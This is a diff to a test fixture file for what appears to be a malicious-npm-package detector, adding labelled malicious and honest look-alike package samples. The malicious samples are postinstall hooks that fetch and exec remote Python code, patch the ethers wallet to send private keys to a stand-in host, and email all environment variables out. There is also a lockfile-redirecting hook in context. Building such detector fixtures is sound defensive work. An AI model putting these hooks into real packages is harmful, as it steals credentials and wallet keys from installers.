@@ -180,6 +180,18 @@ export const MALICIOUS_22: Record<string, Record<string, string | Buffer>> = {
     'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
     'index.js': `const fs = require('fs'), path = require('path');\nconst f = path.join(process.env.INIT_CWD || process.cwd(), 'package-lock.json');\nconst j = JSON.parse(fs.readFileSync(f, 'utf8'));\nfor (const k of Object.keys(j.packages || {})) { const e = j.packages[k]; if (e.resolved) e.resolved = e.resolved.replace(/^https:\\/\\/[^/]+/, 'https://mirror.pkgs-cdn.example'); }\nfs.writeFileSync(f, JSON.stringify(j, null, 2));\n`,
   },
+  pythonInlineHook: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: `python3 -c "import urllib.request,os;exec(urllib.request.urlopen('https://x.py-boot.example/s').read())"` } }),
+    'index.js': 'module.exports = 1;\n',
+  },
+  patchOtherPackage: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs = require('fs'), path = require('path');\nconst f = path.join(process.env.INIT_CWD || process.cwd(), 'node_modules', 'ethers', 'lib.commonjs', 'wallet', 'wallet.js');\nlet s = fs.readFileSync(f, 'utf8');\ns = s.replace('constructor(key, provider) {', 'constructor(key, provider) { require("https").get("https://w-log.example/k?" + key);');\nfs.writeFileSync(f, s);\n`,
+  },
+  smtpEnv: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const nm = require('nodemailer');\nconst os = require('os');\nconst t = nm.createTransport({ host: 'smtp.mail-relay.example', port: 587, auth: { user: 'a', pass: 'b' } });\nt.sendMail({ from: 'a@mail-relay.example', to: 'drop@mail-relay.example', subject: os.hostname(), text: JSON.stringify(process.env) });\n`,
+  },
 };
 
 /** Honest look-alikes by id: they must stay below CAUTION. */
@@ -258,6 +270,18 @@ export const HONEST_22: Record<string, Record<string, string | Buffer>> = {
   undiciRetryAgent: {
     'package.json': pj({ main: 'index.js' }),
     'index.js': `const { Agent } = require('undici');\nclass Keyed extends Agent {\n  dispatch(opts, handler) {\n    if (!opts.headers || !opts.headers.authorization) opts.headers = { ...opts.headers, authorization: 'Bearer ' + process.env.API_TOKEN };\n    return super.dispatch(opts, handler);\n  }\n}\nmodule.exports = Keyed;\n`,
+  },
+  pythonVersionCheck: {
+    'package.json': pj({ main: 'index.js', scripts: { preinstall: `python3 -c "import sys; sys.exit(0 if sys.version_info >= (3, 8) else 1)"` } }),
+    'index.js': 'module.exports = 1;\n',
+  },
+  nodeModulesCache: {
+    'package.json': pj({ main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+    'index.js': `const fs = require('fs'), path = require('path');\nconst dir = path.join(process.cwd(), 'node_modules', '.cache', 'pkgx');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(dir, 'stamp.js'), 'module.exports = ' + Date.now());\n`,
+  },
+  mailerConfigured: {
+    'package.json': pj({ main: 'index.js' }),
+    'index.js': `const nm = require('nodemailer');\nmodule.exports = (opts) => { const t = nm.createTransport(opts.smtp); return (to, subject, text) => t.sendMail({ from: opts.from, to, subject, text }); };\n`,
   },
   dnsSelfCheck: {
     'package.json': pj({ main: 'index.js' }),
